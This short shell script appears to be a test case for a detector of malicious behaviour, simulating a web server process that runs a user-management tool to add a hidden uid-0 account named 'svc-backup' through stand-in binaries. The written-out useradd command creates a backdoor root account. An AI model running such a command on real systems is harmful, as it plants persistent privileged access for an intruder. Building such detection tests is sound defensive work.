#!/bin/sh
# malicious: a web server shell runs a user management tool to add a uid-0 account (stand-in useradd, changes nothing)
. "$(dirname "$0")/../../lib.sh"
$B/httpd "$B/useradd -o -u 0 -g 0 -M -N -s /bin/sh svc-backup"
